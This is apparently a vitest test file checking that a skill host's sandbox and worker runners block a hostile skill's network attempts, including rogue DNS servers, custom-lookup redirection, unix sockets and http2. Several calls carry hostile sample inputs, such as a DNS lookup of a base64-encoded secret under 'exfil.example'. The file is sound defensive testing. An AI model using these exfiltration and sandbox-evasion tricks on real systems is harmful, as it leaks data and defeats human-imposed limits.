// What a hostile skill tries through the network, against the sandbox and the worker runner
// (both promise the allow list): DNS to its own server, reverse and ANY queries, UDP and TCP
// to ports the manifest does not allow (also through its own lookup function), unix sockets
// and http2. Each attempt is POLICY_DENIED and the loopback listener it aimed at counts zero;
// the ordinary clients (node:http, node:https, fetch, axios, got) reach the allowed servers.
// One world and one runner per runner kind: every tool is one attempt.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallResult } from '../router/types.js';
import type { SkillHost } from '../host.js';
import { SKILL, networkWorld, type NetworkWorld } from './hostile-network.fixtures.js';

let world: NetworkWorld;
beforeAll(async () => {
  world = await networkWorld();
}, 60_000);
afterAll(() => world?.close());

const ok = (r: CallResult) => {
  if (r.isError) throw new Error(`expected success, got ${r.code}: ${r.message}`);
  return r.structured ?? r.text;
};

/** POLICY_DENIED naming what was refused. */
const denied = (r: CallResult, what: string) => {
  expect(r.isError ? [r.code, r.message.includes(what) || r.message] : ['success', r]).toEqual([
    'POLICY_DENIED',
    true,
  ]);
};

describe.each(['sandbox', 'worker'] as const)('%s runner: the network allow list', (runner) => {
  let host: SkillHost;
  const call = (tool: string, input: Record<string, unknown> = {}) =>
    host.call({ name: `${SKILL}.${tool}`, input });
  beforeAll(async () => {
    host = await world.open(runner);
  }, 60_000);

  it('node:http, node:https (with its CA), fetch, axios and got reach an allowed loopback server', async () => {
    const { allowedHttp, allowedTls } = world.ports;
    const before = { ...world.hits };
    const url = `http://127.0.0.1:${allowedHttp}/`;
    for (const tool of ['http_get', 'fetch', 'axios', 'got']) {
      expect([tool, ok(await call(tool, { url }))]).toEqual([
        tool,
        { status: 200, text: 'hello from allowedHttp' },
      ]);
    }
    const tls = await call('https_request', {
      url: `https://127.0.0.1:${allowedTls}/`,
      ca: world.ca,
    });
    expect(ok(tls)).toEqual({ status: 200, text: 'hello from allowedTls' });
    expect(world.hits.allowedHttp - before.allowedHttp).toBe(4);
    expect(world.hits.allowedTls - before.allowedTls).toBe(1);
  });

  it('the same clients to a loopback port the manifest does not allow are POLICY_DENIED and no connection arrives', async () => {
    const before = world.hits.otherTcp;
    const url = `http://127.0.0.1:${world.otherPort}/`;
    for (const tool of ['http_get', 'fetch', 'axios', 'got'])
      denied(await call(tool, { url }), '127.0.0.1');
    denied(await call('https_request', { url: url.replace('http', 'https') }), '127.0.0.1');
    await world.settle();
    expect(world.hits.otherTcp).toBe(before);
  });

  it("a Resolver, its native channel or the dns module pointed at the skill's own DNS server is POLICY_DENIED and the server receives zero packets", async () => {
    const server = `127.0.0.1:${world.trapPort}`;
    const before = world.hits.trapUdp;
    for (const tool of ['resolver_servers', 'callback_resolver_servers', 'module_servers']) {
      denied(await call(tool, { server, name: 'allowed.invalid' }), `the DNS server ${server}`);
    }
    const channel = { address: '127.0.0.1', port: world.trapPort, name: 'allowed.invalid' };
    denied(await call('channel_servers', channel), `the DNS server 127.0.0.1:${world.trapPort}`);
    await world.settle();
    expect(world.hits.trapUdp).toBe(before);
  });

  it("setServers with the system's own resolvers is allowed", async () => {
    expect(ok(await call('system_servers'))).toEqual(expect.any(Array));
  });

  it('reverse() of an address, resolveAny, lookupService and dns.lookup of names not allowed are POLICY_DENIED', async () => {
    denied(await call('reverse', { ip: '10.11.12.13' }), '10.11.12.13 (dns.reverse)');
    denied(await call('resolve_any', { name: 'c2VjcmV0.exfil.example' }), 'c2VjcmV0.exfil.example');
    denied(await call('lookup_service', { ip: '10.11.12.13', port: 22 }), '10.11.12.13');
    denied(await call('lookup', { name: 'c2VjcmV0.exfil.example' }), '(dns.lookup)');
  });

  it('UDP to a loopback port not allowed, with or without an address, is POLICY_DENIED and zero packets arrive; the allowed port gets its datagrams, by address and by name', async () => {
    const before = { ...world.hits };
    const port = world.trapPort;
    denied(await call('udp_send', { host: '127.0.0.1', port }), '127.0.0.1');
    denied(await call('udp_send_no_address', { port }), '127.0.0.1');
    expect(ok(await call('udp_send', { host: '127.0.0.1', port: world.ports.allowedUdp }))).toBe(
      'sent',
    );
    const byName = { host: 'localhost', port: world.ports.allowedUdp };
    expect(ok(await call('udp_send', byName))).toBe('sent');
    await world.settle();
    expect(world.hits.allowedUdp).toBe(before.allowedUdp + 2);
    expect(world.hits.trapUdp).toBe(before.trapUdp);
  });

  it('a UDP socket whose own lookup maps an allowed name to a port not allowed is POLICY_DENIED and zero packets arrive', async () => {
    const before = world.hits.trapUdp;
    const r = await call('udp_own_lookup', {
      name: 'allowed.invalid',
      port: world.trapPort,
      to: '127.0.0.1',
    });
    denied(r, `127.0.0.1:${world.trapPort}`);
    await world.settle();
    expect(world.hits.trapUdp).toBe(before);
  });

  it('net.connect whose own lookup maps an allowed name to an address not allowed is POLICY_DENIED and no connection arrives', async () => {
    const before = world.hits.otherTcp;
    const r = await call('tcp_own_lookup', {
      name: 'allowed.invalid',
      port: world.otherPort,
      to: '127.0.0.1',
    });
    denied(r, 'what its own lookup returned for allowed.invalid');
    await world.settle();
    expect(world.hits.otherTcp).toBe(before);
  });

  it('a unix socket is POLICY_DENIED and no connection arrives', async () => {
    denied(
      await call('unix_socket', { path: world.unixPath }),
      `the local socket ${world.unixPath}`,
    );
    expect(world.hits.unix).toBe(0);
  });

  it('http2.connect to a port not allowed is POLICY_DENIED; an allowed h2c server is reached', async () => {
    const before = world.hits.otherTcp;
    denied(await call('http2', { url: `http://127.0.0.1:${world.otherPort}` }), '127.0.0.1');
    await world.settle();
    expect(world.hits.otherTcp).toBe(before);
    expect(ok(await call('http2', { url: `http://127.0.0.1:${world.ports.allowedH2}` }))).toBe(
      'connected',
    );
  });
});
